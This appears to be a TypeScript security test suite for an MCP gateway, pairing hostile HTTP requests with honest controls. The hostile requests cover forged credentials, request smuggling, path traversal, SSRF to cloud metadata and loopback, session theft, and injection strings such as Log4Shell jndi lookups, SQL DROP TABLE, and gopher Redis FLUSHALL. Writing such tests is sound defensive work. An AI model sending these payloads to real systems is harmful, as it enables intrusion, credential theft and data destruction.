import { type Asked, raw, type Reply, request } from '../../support/raw-http.ts';

/** What a row can use: a gateway with keys, a session and a stream. */
export interface Scene {
  readonly url: string;
  /** A key that may call every tool. */
  readonly key: string;
  /** The key of another user. */
  readonly other: string;
  /** A key that may list tools but not call them. */
  readonly reader: string;
  /** The key of an administrator. */
  readonly admin: string;
  readonly revoked: string;
  readonly expired: string;
  /** A session and a legacy stream of `key`. */
  readonly session: string;
  readonly stream: string;
}

/** A hostile request, and the same request from an honest client. */
export interface Row {
  readonly category: string;
  readonly name: string;
  hostile(scene: Scene, tag: string): Promise<Reply>;
  control(scene: Scene, tag: string): Promise<Reply>;
}

type Headers = readonly (readonly [string, string])[];
type Build = (scene: Scene, tag: string) => Asked | string;

export const bearer = (key: string): Headers => [['Authorization', `Bearer ${key}`]];

const call = (name: string, args: unknown, id: unknown = 1): string =>
  JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } });

/** A call that the backend records under this tag. */
const reach = (tag: string): string => call('ref__slow', { ms: 0, tag }, tag);

const honest: Build = ({ key }, tag) => ({ headers: bearer(key), body: reach(tag) });

function row(category: string, name: string, hostile: Build, control: Build = honest): Row {
  const send = (build: Build) => (scene: Scene, tag: string) => {
    const built = build(scene, tag);
    return raw(scene.url, typeof built === 'string' ? built : request(scene.url, built));
  };
  return { category, name, hostile: send(hostile), control: send(control) };
}

const nobody: [string, (scene: Scene) => Headers][] = [
  ['no credential', () => []],
  ['an empty bearer', () => [['Authorization', 'Bearer ']]],
  ['only the word Bearer', () => [['Authorization', 'Bearer']]],
  ['an unknown scheme', ({ key }) => [['Authorization', `Token ${key}`]]],
  [
    'the key as basic credentials',
    ({ key }) => [['Authorization', `Basic ${Buffer.from(`x:${key}`).toString('base64')}`]],
  ],
  ['the key without a scheme', ({ key }) => [['Authorization', key]]],
  ['the key cut short', ({ key }) => bearer(key.slice(0, -1))],
  ['the key with one letter more', ({ key }) => bearer(`${key}A`)],
  ['the key in capitals', ({ key }) => bearer(key.toUpperCase())],
  ['the id with another secret', ({ key }) => bearer(`${key.slice(0, 15)}${'A'.repeat(43)}`)],
  ["one key's id with another's secret", ({ key, other }) => bearer(key.slice(0, 15) + other.slice(15))],
  ['a revoked key', ({ revoked }) => bearer(revoked)],
  ['an expired key', ({ expired }) => bearer(expired)],
  ['a JWT of algorithm none', () => bearer('eyJhbGciOiJub25lIn0.eyJzdWIiOiJvd25lciIsInNjb3BlIjoiYWRtaW4ifQ.')],
  ['a JWT without an issuer', () => bearer('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvd25lciJ9.c2lnbmF0dXJl')],
  ['the key in a cookie', ({ key }) => [['Cookie', `token=${key}; authorization=Bearer ${key}`]]],
  ['the key in a header of a proxy', ({ key }) => [['X-Forwarded-Authorization', `Bearer ${key}`]]],
  ['a user that a proxy names', () => [['X-Forwarded-User', 'owner']]],
  ['a client that claims to be local', () => [['X-Forwarded-For', '127.0.0.1']]],
  ['two credentials', ({ key, other }) => [...bearer(key), ['X-API-Key', other]]],
  ['two Authorization headers', ({ key }) => [...bearer('wrong'), ...bearer(key)]],
  ['two keys in one header', ({ key, other }) => [['Authorization', `Bearer ${key}, Bearer ${other}`]]],
  ['an empty API key', () => [['X-API-Key', '']]],
  ['a key of 20 kB', () => bearer('x'.repeat(12_000))],
];

const doors: [string, (tag: string) => Asked][] = [
  ['/mcp', (tag) => ({ body: reach(tag) })],
  ['/', (tag) => ({ path: '/', body: reach(tag) })],
  [
    'REST',
    (tag) => ({ path: '/api/v1/mcp/invoke', body: JSON.stringify({ name: 'ref__slow', arguments: { ms: 0, tag } }) }),
  ],
];

const auth = nobody.flatMap(([name, headers]) =>
  doors.map(([door, build]) =>
    row(
      'auth',
      `${name}, at ${door}`,
      (scene, tag) => ({ ...build(tag), headers: headers(scene) }),
      ({ key }, tag) => ({ ...build(tag), headers: bearer(key) }),
    ),
  ),
);

const queries = ['token', 'access_token', 'api_key', 'apikey', 'authorization', 'bearer'].map((name) =>
  row('auth', `the key in the query, as ${name}`, ({ key }, tag) => ({
    path: `/mcp?${name}=${key}`,
    body: reach(tag),
  })),
);

const hosts = [
  'evil.example',
  'localhost.evil.example',
  '127.0.0.1.evil.example',
  'evil.example:3500',
  '127.0.0.1@evil.example',
  'evil.example#localhost',
  '169.254.169.254',
  '[::ffff:169.254.169.254]',
  '0.0.0.0',
  'localhost evil.example',
  'localhost,evil.example',
  'xn--lcalhost-p5a',
].map((host) =>
  row(
    'host',
    `Host: ${host}`,
    ({ key }, tag) => ({ headers: [['Host', host], ...bearer(key)], body: reach(tag) }),
    ({ key }, tag) => ({ headers: [['Host', 'localhost'], ...bearer(key)], body: reach(tag) }),
  ),
);

const noHost = row('host', 'no Host at all', ({ key }, tag) => {
  const body = reach(tag);
  return `POST /mcp HTTP/1.1\r\nConnection: close\r\nContent-Type: application/json\r\nAuthorization: Bearer ${key}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
});

const origins = [
  'https://evil.example',
  'http://evil.example',
  'null',
  'http://localhost.evil.example',
  'http://127.0.0.1.evil.example',
  'https://app.example.com.evil.example',
  'https://app.example.com@evil.example',
  'http://app.example.com',
  'https://app.example.com:444',
  'https://APP.example.com.',
  'file://',
  'chrome-extension://abcdefghijklmnop',
  'http://169.254.169.254',
  'javascript:alert(1)',
].map((origin) =>
  row(
    'origin',
    `Origin: ${origin}`,
    ({ key }, tag) => ({ headers: [['Origin', origin], ...bearer(key)], body: reach(tag) }),
    ({ key }, tag) => ({ headers: [['Origin', 'https://app.example.com'], ...bearer(key)], body: reach(tag) }),
  ),
);

/** A second request inside the body of the first. It must never be answered. */
const smuggled = (tag: string, key: string) => {
  const body = reach(tag);
  return `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer ${key}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
};

const smuggling: [string, (key: string, tag: string) => string][] = [
  [
    'Content-Length and Transfer-Encoding',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'two lengths',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a length with a sign',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: +0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a length in hex',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0x0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a negative length',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a list of lengths',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0, 0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a space before the colon',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Length : 0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a folded header',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'an unknown transfer coding',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'chunked, twice',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'chunked, not last',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a bare line feed in a header',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nX-A: b\nAuthorization: Bearer ${key}\r\nContent-Length: 0\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a bare carriage return in a header',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nX-A: b\rAuthorization: Bearer ${key}\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a NUL in a header',
    (key, tag) => `POST /mcp HTTP/1.1\r\nHost: localhost\r\nX-A: b\0c\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'an invalid chunk size',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n${smuggled(tag, key)}`,
  ],
  [
    'a chunk size too large to count',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n\r\n${smuggled(tag, key)}`,
  ],
  ['an invalid HTTP version', (key, tag) => `POST /mcp HTTP/9.9\r\nHost: localhost\r\n\r\n${smuggled(tag, key)}`],
  ['an invalid HTTP method', (key, tag) => `PO ST /mcp HTTP/1.1\r\nHost: localhost\r\n\r\n${smuggled(tag, key)}`],
  [
    'two Host headers',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: ${reach(tag).length}\r\n\r\n${reach(tag)}`,
  ],
  [
    'two session ids',
    (key, tag) =>
      `POST /mcp HTTP/1.1\r\nHost: localhost\r\nMcp-Session-Id: a\r\nMcp-Session-Id: b\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nConnection: close\r\nContent-Length: ${reach(tag).length}\r\n\r\n${reach(tag)}`,
  ],
];

const deep = (open: string, close: string, times: number) => open.repeat(times) + close.repeat(times);

const sizes: [string, Build][] = [
  ['a body announced as 17 MB', ({ key }) => ({ headers: bearer(key), body: '{}', length: String(17 * 1024 * 1024) })],
  [
    'a body of 17 MB',
    ({ key }, tag) => ({
      headers: bearer(key),
      body: call('ref__slow', { ms: 0, tag, pad: 'x'.repeat(17 * 1024 * 1024) }),
    }),
  ],
  ['a body announced as 2^53', ({ key }) => ({ headers: bearer(key), body: '{}', length: '9007199254740993' })],
  [
    '10,000 nested arrays',
    ({ key }, tag) => ({
      headers: bearer(key),
      body: `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"ref__slow","arguments":{"ms":0,"tag":"${tag}","x":${deep('[', ']', 10_000)}}}}`,
    }),
  ],
  [
    '10,000 nested objects',
    ({ key }, tag) => ({
      headers: bearer(key),
      body: `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"ref__slow","arguments":{"ms":0,"tag":"${tag}","x":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}}}}`,
    }),
  ],
  [
    'a batch of 20,000',
    ({ key }, tag) => ({
      headers: [...bearer(key), ['MCP-Protocol-Version', '2025-11-25']],
      body: `[${Array.from({ length: 20_000 }, (_, id) => call('ref__slow', { ms: 0, tag }, id)).join()}]`,
    }),
  ],
  [
    '20 kB of headers',
    ({ key }, tag) => ({ headers: [...bearer(key), ['X-Pad', 'x'.repeat(20_000)]], body: reach(tag) }),
  ],
  [
    '3,000 headers',
    ({ key }, tag) => ({
      headers: [...bearer(key), ...Array.from({ length: 3000 }, (_, n) => [`X-${n}`, '1'] as const)],
      body: reach(tag),
    }),
  ],
  [
    'a URL of 20 kB',
    ({ key }, tag) => ({ path: `/mcp?${'x'.repeat(20_000)}`, headers: bearer(key), body: reach(tag) }),
  ],
  [
    'a method name of 1 MB',
    ({ key }) => ({
      headers: bearer(key),
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'x'.repeat(1_000_000) }),
    }),
  ],
];

const paths = [
  '/mcp/../mcp/secret',
  '/mcp/%2e%2e/mcp',
  '/mcp/..%2fadmin',
  '/mcp/..\\admin',
  '/mcp/%00',
  '/mcp/ops%2f..%2f',
  '/mcp//ops',
  '/MCP',
  '/mcp;x=1',
  '/mcp/__proto__',
  '/mcp/constructor',
  '/mcp/toString',
  '/mcp/hasOwnProperty',
  '/..%2f..%2fetc/passwd',
  '/api/v1/mcp/tools/internal',
  '/api/v1/mcp/invoke/internal',
  '/api/v1/mcp/tools/..%2f..%2fstatus',
  '/api/v1/mcp/tools/%2e%2e',
  '//evil.example/mcp',
  '/.env',
  '/sluice.db',
  '/%2e%2e/sluice.yaml',
].map((path) => row('traversal', path, ({ key }, tag) => ({ path, headers: bearer(key), body: reach(tag) })));

const absolute = row('traversal', 'a whole URL as the path', ({ key }, tag) => ({
  path: 'http://evil.example/mcp',
  headers: [['Host', 'evil.example'], ...bearer(key)],
  body: reach(tag),
}));

const names = [
  'ref__slow\r\nX-Injected: 1',
  'ref__slow\0',
  'ref__slow ',
  ' ref__slow',
  'REF__SLOW',
  'ref__slow/../gateway_add_server',
  'ref__slow%00',
  '__proto__',
  'constructor',
  'ref____proto__',
  'ref__constructor',
  "ref__slow'; DROP TABLE events;--",
  'ref__slow${jndi:ldap://evil.example}',
  '{{7*7}}',
  '../ref__slow',
  'ref__ｓｌｏｗ',
  'ref__slow\u202e',
].map((name) =>
  row('injection', `a tool named ${JSON.stringify(name)}`, ({ key }, tag) => ({
    headers: bearer(key),
    body: call(name, { ms: 0, tag }),
  })),
);

const strangeNames = [{}, [], 1, null, true, { toString: 'x' }].map((name) =>
  row('injection', `a tool named ${JSON.stringify(name)}, which is no text`, ({ key }, tag) => ({
    headers: bearer(key),
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name, arguments: { ms: 0, tag } } }),
  })),
);

const read = (uri: unknown) => JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'resources/read', params: { uri } });

const uris = [
  'file:///etc/passwd',
  'file:///proc/self/environ',
  '../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:22/',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  'data:text/html,<script>alert(1)</script>',
  'javascript:alert(1)',
  'test://static-text\r\nHost: evil',
  'ref+file:///etc/passwd',
  '__proto__',
].map((uri) =>
  row(
    'injection',
    `a resource at ${JSON.stringify(uri)}`,
    ({ key }) => ({ headers: bearer(key), body: read(uri) }),
    undefined,
  ),
);

const inSession = ({ key, session }: Scene, tag: string): Asked => ({
  headers: [...bearer(key), ['Mcp-Session-Id', session]],
  body: reach(tag),
});

const theft: [string, Build][] = [
  [
    "another key in the owner's session",
    ({ other, session }, tag) => ({ headers: [...bearer(other), ['Mcp-Session-Id', session]], body: reach(tag) }),
  ],
  ['no key in a session', ({ session }, tag) => ({ headers: [['Mcp-Session-Id', session]], body: reach(tag) })],
  [
    'a reader in a session',
    ({ reader, session }, tag) => ({ headers: [...bearer(reader), ['Mcp-Session-Id', session]], body: reach(tag) }),
  ],
  [
    'an administrator in a session',
    ({ admin, session }, tag) => ({ headers: [...bearer(admin), ['Mcp-Session-Id', session]], body: reach(tag) }),
  ],
  [
    'a session cut short',
    ({ key, session }, tag) => ({ headers: [...bearer(key), ['Mcp-Session-Id', session.slice(1)]], body: reach(tag) }),
  ],
  [
    'a session in capitals',
    ({ key, session }, tag) => ({
      headers: [...bearer(key), ['Mcp-Session-Id', session.toUpperCase()]],
      body: reach(tag),
    }),
  ],
  [
    'a session that is __proto__',
    ({ key }, tag) => ({ headers: [...bearer(key), ['Mcp-Session-Id', '__proto__']], body: reach(tag) }),
  ],
  ['an empty session', ({ key }, tag) => ({ headers: [...bearer(key), ['Mcp-Session-Id', '']], body: reach(tag) })],
  [
    'the stream of another user',
    ({ other, session }) => ({
      method: 'GET',
      headers: [...bearer(other), ['Mcp-Session-Id', session], ['Accept', 'text/event-stream']],
    }),
  ],
  [
    'the stream of another user, from an event id',
    ({ other, session }) => ({
      method: 'GET',
      headers: [
        ...bearer(other),
        ['Mcp-Session-Id', session],
        ['Accept', 'text/event-stream'],
        ['Last-Event-ID', '0-0'],
      ],
    }),
  ],
  [
    'ending the session of another user',
    ({ other, session }) => ({ method: 'DELETE', headers: [...bearer(other), ['Mcp-Session-Id', session]] }),
  ],
  [
    "a message to another's legacy stream",
    ({ other, stream }, tag) => ({ path: `/message?sessionId=${stream}`, headers: bearer(other), body: reach(tag) }),
  ],
  [
    'a message to a legacy stream, without a key',
    ({ stream }, tag) => ({ path: `/message?sessionId=${stream}`, body: reach(tag) }),
  ],
  [
    'a message to the legacy stream __proto__',
    ({ key }, tag) => ({ path: '/message?sessionId=__proto__', headers: bearer(key), body: reach(tag) }),
  ],
];

const addServer = (url: string) => call('gateway_add_server', { name: `ssrf${Math.abs(hash(url))}`, server: { url } });

function hash(text: string): number {
  let value = 0;
  for (const letter of text) value = (value * 31 + letter.charCodeAt(0)) | 0;
  return value;
}

const ssrf = [
  'http://127.0.0.1:22/mcp',
  'http://localhost/mcp',
  'http://LOCALHOST./mcp',
  'http://127.1/mcp',
  'http://0x7f.1/mcp',
  'http://0177.0.0.1/mcp',
  'http://2130706433/mcp',
  'http://0/mcp',
  'http://0.0.0.0/mcp',
  'http://[::1]/mcp',
  'http://[::]/mcp',
  'http://[::ffff:127.0.0.1]/mcp',
  'http://[::ffff:7f00:1]/mcp',
  'http://[64:ff9b::7f00:1]/mcp',
  'http://10.0.0.1/mcp',
  'http://172.16.0.1/mcp',
  'http://192.168.0.1/mcp',
  'http://169.254.169.254/latest/meta-data',
  'http://100.64.0.1/mcp',
  'http://[fd00::1]/mcp',
  'http://[fe80::1]/mcp',
  'http://metadata.google.internal/mcp',
  'http://foo.localhost/mcp',
  'file:///etc/passwd',
  'ftp://127.0.0.1/mcp',
  'http://user:pass@127.0.0.1/mcp',
  'http://127.0.0.1%2f@evil.example/mcp',
  'http://１２７.0.0.1/mcp',
].map((url) =>
  row(
    'SSRF',
    `a server added at ${url}`,
    ({ admin }) => ({ headers: bearer(admin), body: addServer(url) }),
    // Another call of the administrator: the test has no public address to add.
    ({ admin }) => ({ headers: bearer(admin), body: call('gateway_status', {}) }),
  ),
);

const deputy: [string, Build, Build?][] = [
  ['a reader calls', ({ reader }, tag) => ({ headers: bearer(reader), body: reach(tag) })],
  [
    'a reader calls by REST',
    ({ reader }, tag) => ({
      path: '/api/v1/mcp/invoke',
      headers: bearer(reader),
      body: JSON.stringify({ name: 'ref__slow', arguments: { ms: 0, tag } }),
    }),
  ],
  [
    'a reader calls through call_tool',
    ({ reader }, tag) => ({
      path: '/mcp?expose=search',
      headers: bearer(reader),
      body: call('call_tool', { name: 'ref__slow', arguments: { ms: 0, tag } }),
    }),
  ],
  [
    'a reader calls through ref_call',
    ({ reader }, tag) => ({
      path: '/mcp?expose=compact',
      headers: bearer(reader),
      body: call('ref_call', { tool: 'slow', params: { ms: 0, tag } }),
    }),
  ],
  [
    'a reader calls by the alias',
    ({ reader }, tag) => ({ headers: bearer(reader), body: call('ref:slow', { ms: 0, tag }) }),
  ],
  [
    'a caller adds a server',
    ({ key }) => ({
      headers: bearer(key),
      body: call('gateway_add_server', { name: 'mine', server: { url: 'https://example.com/mcp' } }),
    }),
  ],
  [
    'a caller adds a command',
    ({ key }) => ({
      headers: bearer(key),
      body: call('gateway_add_server', { name: 'mine', server: { command: 'sh' } }),
    }),
  ],
  [
    'an administrator adds a command',
    ({ admin }) => ({
      headers: bearer(admin),
      body: call('gateway_add_server', { name: 'mine', server: { command: 'sh', args: ['-c', 'true'] } }),
    }),
  ],
  [
    'a caller removes a server',
    ({ key }) => ({ headers: bearer(key), body: call('gateway_remove_server', { name: 'ref' }) }),
  ],
  [
    'a caller restarts a server',
    ({ key }) => ({ headers: bearer(key), body: call('gateway_restart_server', { name: 'ref' }) }),
  ],
  [
    'a made-up confirmation',
    ({ key }, tag) => ({
      headers: bearer(key),
      body: call('ask__slow', { ms: 0, tag, confirm: '00000000-0000-4000-8000-000000000000' }),
    }),
  ],
  [
    'a made-up state',
    ({ key }, tag) => ({
      headers: bearer(key),
      body: JSON.stringify({
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: { name: 'ask__slow', arguments: { ms: 0, tag }, requestState: 'e30' },
      }),
    }),
  ],
];

export const rows: readonly Row[] = [
  ...auth,
  ...queries,
  ...hosts,
  noHost,
  ...origins,
  ...smuggling.map(([name, build]) => row('smuggling', name, ({ key }, tag) => build(key, tag))),
  ...sizes.map(([name, build]) => row('size', name, build)),
  ...paths,
  absolute,
  ...names,
  ...strangeNames,
  ...uris,
  ...theft.map(([name, build]) => row('session theft', name, build, inSession)),
  ...ssrf,
  ...deputy.map(([name, build, control]) => row('confused deputy', name, build, control)),
];
